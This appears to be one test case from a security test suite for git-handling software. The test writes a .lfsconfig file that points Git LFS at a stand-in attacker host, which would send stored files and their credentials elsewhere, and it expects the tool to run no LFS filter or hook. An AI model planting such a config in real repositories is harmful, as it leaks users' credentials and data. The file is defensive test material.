from pathlib import Path

from tests.attacks.git_world import Places

TITLE = "The address of an LFS server"
TRIES = ".lfsconfig sends what LFS stores, and the credentials for it, elsewhere."
MUST_FAIL = "No LFS filter or hook is run here; the file is shown as a part of the change."
GAINS = ("connection",)
ALSO = (".lfsconfig",)
HELD_BY_GIT = "git itself does not read .lfsconfig"


def attack(checkout: Path, places: Places) -> None:
    (checkout / ".lfsconfig").write_text(f"[lfs]\n\turl = {places.evil}\n")
